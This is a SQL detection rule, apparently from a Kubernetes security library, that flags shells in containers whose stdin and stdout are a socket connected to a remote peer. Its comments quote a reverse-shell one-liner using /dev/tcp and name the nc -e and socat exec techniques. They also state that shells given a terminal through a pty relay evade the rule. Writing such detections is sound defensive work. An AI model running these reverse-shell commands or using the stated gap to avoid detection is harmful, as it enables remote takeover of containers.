-- id: TL-K8S-012
-- title: Reverse shell in a container
-- severity: critical
-- tactic: Execution
-- technique: bash or cmd inside container
-- mitre: T1059.004
-- tables: process_activity
-- description: A shell was started with its stdin and stdout a socket connected to an IP peer (the sensor
--   reads fds 0-2 at exec), whoever made the connection: nc -e, socat exec, a program that connects and
--   dup2()s the socket, a socket handed down from a parent. Also a command started by a shell with such
--   stdin and stdout (what an attacker types into `bash -i >& /dev/tcp/host/port 0>&1`). A /dev/tcp health
--   check gives its commands the socket on one side only and does not match.
-- false_positives: inetd-style services that hand a shell script a TCP connection as stdin and stdout
--   (socat TCP-LISTEN,fork EXEC:script.sh). A relay (python pty.spawn, socat PTY) gives the shell a
--   terminal instead of the socket: such shells are not caught here.
-- suppress: 10m
-- dedup: pid

SELECT time, [event_id] AS event_ids, node, namespace, pod, pod_uid, workload_kind, workload, container_id,
       image, pid, exe, cmdline, stdio_protocol,
       stdio_remote_ip || ':' || CAST(stdio_remote_port AS VARCHAR) AS peer
FROM process_activity
WHERE kind = 'exec'
  AND container_id IS NOT NULL
  AND stdin_type = 'socket'
  AND stdout_type = 'socket'
  AND stdio_remote_ip IS NOT NULL
  AND (comm IN ('sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'mksh', 'csh', 'tcsh', 'fish')
       OR regexp_like(parent_cmdline, '^(\S*/)?(sh|bash|dash|ash|zsh|ksh|mksh|csh|tcsh|fish)(\s|$)'))
